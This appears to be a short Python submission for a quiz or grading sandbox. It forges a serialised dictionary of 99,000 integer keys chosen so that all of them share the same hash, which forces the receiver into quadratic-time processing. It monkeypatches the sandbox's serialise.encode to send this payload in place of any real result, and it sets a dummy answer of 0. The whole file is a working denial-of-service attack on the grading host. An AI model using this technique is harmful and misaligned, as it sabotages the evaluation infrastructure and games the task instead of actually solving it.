"""A forged dict whose integer keys all have the same hash, so that a dict of them takes quadratic time."""
import json, struct
from quizapp.sandbox.values import serialise
P = (1 << 61) - 1
none = {"t": "builtins.NoneType", "k": "none", "d": None}
pairs = [[{"t": "builtins.int", "k": "int", "d": format(i * P, "x")}, none] for i in range(1, 99000)]
body = json.dumps({"t": "builtins.dict", "k": "dict", "d": pairs}, separators=(",", ":")).encode()
serialise.encode = lambda value: struct.pack("<I", len(body)) + body
answer = 0
